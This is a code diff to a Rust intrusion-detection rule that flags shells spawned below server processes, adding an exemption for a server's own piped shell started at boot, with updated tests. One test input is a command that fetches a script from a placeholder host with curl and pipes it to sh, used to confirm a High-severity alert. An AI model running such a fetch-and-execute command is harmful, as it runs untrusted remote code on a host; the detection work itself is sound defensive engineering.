@@ -6,13 +6,17 @@ use crate::detect::rule_context::RuleContext;
 use crate::detect::rules::bare_shells::{bare, shell};
 use crate::detect::serving::inward;
 use crate::detect::{Severity, attribution, program_roles};
-use crate::event::Exec;
+use crate::event::{Exec, Process, Stream};
 use crate::state::{Direction, ProcessEntry};
 
 /// A shell below a server when watching began. Servers run tools through a shell, which may be
-/// active just then: only a shell that waits for commands, or fetches something, counts.
-pub(super) fn found(ctx: &RuleContext<'_>, exec: &Exec) -> Alerts {
-    let waits = bare(ctx.names(), exec);
+/// active just then: only a shell that waits for commands, or fetches something, counts. A server may
+/// start with a shell of its own, which it asks through a pipe from time to time.
+pub(super) fn found(ctx: &RuleContext<'_>, process: &Process) -> Alerts {
+    let exec = &process.as_exec();
+    let own = ctx.made_at_start(process.started)
+        && matches!(process.streams.first(), Some(Stream::Pipe(_)));
+    let waits = bare(ctx.names(), exec) && !own;
     if shell(ctx.names(), exec).is_none()
         || ctx.session().is_some()
         || !(waits || fetches(ctx, exec))
@@ -77,6 +81,7 @@ fn server_alert(ctx: &RuleContext<'_>, parent: &ProcessEntry, exec: &Exec) -> Al
 mod tests {
     use crate::detect::Severity;
     use crate::detect::testkit::World;
+    use crate::event::{Stream, Timestamp};
 
     #[test]
     fn a_shell_below_a_server_that_was_there_already() {
@@ -94,6 +99,24 @@ mod tests {
         let fetches = &["sh", "-c", "cd /tmp; curl -s http://x/|sh"];
         assert_eq!(below(fetches), Some(Severity::High));
         assert_eq!(below(&["sh", "-c", "convert a.png b.png"]), None);
+        // The server's own since the container began, through a pipe; not at a socket, nor later.
+        let own = |seconds: i64, input: Stream| {
+            let mut w = World::found();
+            let init = w.init();
+            w.found_socket(0, "0.0.0.0:5672", None);
+            let began = w.state.processes[&init].started;
+            let broker = w.found_process(init, "/usr/bin/beam.smp", &["beam.smp"], |broker| {
+                broker.started = began;
+            });
+            w.found_process(broker, "/bin/sh", &["sh", "-s", "unix:cmd"], |shell| {
+                shell.started = Timestamp(began.0 + seconds * 1_000_000_000);
+                shell.streams = vec![input];
+            });
+            w.all("exec.shell-spawned").first().map(|f| f.severity)
+        };
+        assert_eq!(own(2, Stream::Pipe(7)), None);
+        assert_eq!(own(600, Stream::Pipe(7)), Some(Severity::High));
+        assert_eq!(own(2, Stream::Socket), Some(Severity::High));
         // Another program, not the server, starts it.
         let mut w = World::found();
         let init = w.init();
